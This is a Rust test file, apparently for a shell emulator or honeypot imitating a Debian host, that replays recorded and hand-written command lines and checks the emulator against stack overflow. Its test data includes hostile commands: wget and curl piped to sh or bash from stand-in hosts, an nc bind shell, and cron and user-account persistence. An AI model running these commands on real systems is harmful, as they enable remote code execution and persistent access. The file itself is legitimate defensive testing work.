//! Command lines for the programs of the machine, and what they read.

use super::{
    measure,
    shell::{host, run},
};

/// Recordings of real programs, whose command lines these are.
const RECORDED: &[&str] = &[
    include_str!("../programs/tests/real.jsonl"),
    include_str!("../programs/packages/real/packages.jsonl"),
    include_str!("../programs/network/real/tftp.jsonl"),
    include_str!("../programs/network/real/firewall.jsonl"),
    include_str!("../programs/network/real/wget.jsonl"),
    include_str!("../programs/network/real/curl.jsonl"),
    include_str!("../programs/network/real/interfaces.jsonl"),
    include_str!("../programs/network/real/reach.jsonl"),
];

/// What those do not know, and the files of the kernel.
const OTHERS: &[&str] = &[
    "for f in /proc/* /proc/self/* /proc/net/*; do cat $f; done",
    "ls -laR /etc /root; find / -name '*.conf' -size +1 -exec grep -l root {} +",
    "ps auxf; ps -eo pid,args --sort=-pcpu; top -bn1; free -m; df -h; w; last -n 9; uptime; lscpu",
    "echo 'a b 3' | awk '{s+=$3; a[$1]=$2} END {for (k in a) print k, a[k], s, substr($0,2,3)}' | sed 's/a\\(.\\)/\\1x/g;y/ab/cd/'",
    "sort -t: -k3 -n /etc/passwd | uniq -c | cut -d: -f1 | tr a-z A-Z | head -5 | tac | rev | nl | paste - -",
    "dd if=/dev/zero of=x bs=1k count=9; tar czf a.tgz x; tar tzf a.tgz; gzip x; base64 a.tgz | base64 -d | md5sum; xxd a.tgz; od -c a.tgz",
    "crontab -l; echo '* * * * * id' | crontab -; useradd -m x; echo x:y | chpasswd; passwd -l x; userdel -r x; chattr +i /etc/passwd",
    "busybox wget http://10.0.0.1/a -O- | sh; curl -sk https://h/x | bash; tftp -g -r a 10.0.0.1; ftpget h a b; nc -lvp 4444 -e /bin/sh",
    "python3 -c 'import os; os.system(\"id\"); print(1+1)'; perl -e 'print \"a\" x 3'; date -d '2 days ago' +%s; expr 1 + 2; seq 1 3 99",
    "systemctl status ssh; service cron restart; iptables -L -n; ip a; ss -tlnp; netstat -an; apt-get install -y x; dpkg -l; mount; dmesg",
    "scp -t /tmp; chmod -R 777 /tmp; chown -R nobody:nogroup /tmp; ln -s a b; stat b; file *; diff a b; cmp a b; xargs -n1 echo; timeout 1 yes",
];

fn quoted(argument: &str) -> String {
    let plain =
        !argument.is_empty() && argument.bytes().all(|b| b.is_ascii_alphanumeric() || b"-_./=".contains(&b));
    if plain { argument.to_owned() } else { format!("'{}'", argument.replace('\'', "'\\''")) }
}

/// The command line of a recorded run.
fn line(recorded: &str) -> Option<String> {
    let case: serde_json::Value = serde_json::from_str(recorded).ok()?;
    if let Some(line) = case["cmd"].as_str() {
        return Some(line.to_owned());
    }
    let words = case["args"].as_array()?.iter().filter_map(|word| word.as_str()).map(quoted);
    Some(words.collect::<Vec<_>>().join(" "))
}

#[test]
fn command_lines() {
    let mut lines: Vec<String> = RECORDED.iter().flat_map(|file| file.lines()).filter_map(line).collect();
    assert!(lines.len() > 300, "{}", lines.len());
    // They are longer than the others, and more often.
    lines.extend(OTHERS.iter().cycle().take(3 * OTHERS.len()).map(|line| (*line).to_owned()));
    let talks: Vec<&[u8]> = lines.iter().map(String::as_bytes).collect();
    let host = host("Debian GNU/Linux 12 (bookworm)");
    measure::check_keeping(1, "programs", &talks, |runtime, dice, line| {
        let length = dice.below(300);
        let mut input = b"a b c\n1:2:3\nC0644 3 x\nabc\0".to_vec();
        input.extend(dice.bytes(length));
        run(runtime, &host, line, &input);
    });
}

/// Ten thousand operators in a row make trees so deep, unless somebody bounds them: who walks those
/// takes the stack, and the whole process with it.
#[test]
fn operators_in_a_row_do_not_take_the_stack() {
    // As many as are bearable by any bound, and more than by any.
    for count in [200, 10_000] {
        hold_rows(count);
    }
}

fn hold_rows(count: usize) {
    let row = |first: &str, link: &str, last: &str| format!("{first}{}{last}", link.repeat(count));
    let lines = [
        row("echo $((1", "+1", "))"),
        row("echo $((", "-", "1))"),
        row("echo $((1", "?1:0", "))"),
        row("let 'a=1", ",1", "'"),
        row("[[ a", " && a", " ]]"),
        row("[[ ", "! ", "a ]]"),
        row("test a", " -a a", ""),
        row("expr 1", " + 1", ""),
        row("find /etc/passwd", " -o -true", ""),
        row("find /etc/passwd ", "! ", "-true"),
        row("true", " && true", ""),
        row("true", " | true", ""),
        row("! ", "! ", "true"),
        row("awk 'BEGIN { print 1", "+1", " }'"),
        row("awk 'BEGIN { print ", "-", "1 }'"),
        row("awk 'BEGIN { if (1) ; ", "else if (1) ; ", " }'"),
        row("echo | sed -E 's/a", "|a", "/b/'"),
        row("echo | grep -E 'a", "**", "'"),
        row("echo | sed '", "{", "'"),
        row("python3 -c 'print(1", "+1", ")'"),
        row("python3 -c 'print(", "-", "1)'"),
        row("perl -e 'print 1", ".1", ";'"),
        row("perl -e 'print ", "!", "1;'"),
        row("echo 1", "+1", " | bc"),
        row("x=1; ", "x=$x$x; ", "echo ${#x}"),
        row("echo ${a", ":-${a", "}"),
        row("echo ", "{a,", "}"),
    ];
    let host = host("Debian GNU/Linux 12 (bookworm)");
    let runtime = measure::runtime();
    for line in lines {
        // The last of these is the line that took the stack.
        println!("row: {}", line.get(..60).unwrap_or(&line));
        let start = measure::processor_time();
        run(&runtime, &host, line.as_bytes(), b"");
        let took = measure::processor_time().saturating_sub(start);
        assert!(took < std::time::Duration::from_secs(20), "{took:?} for {}", &line[..60]);
    }
}
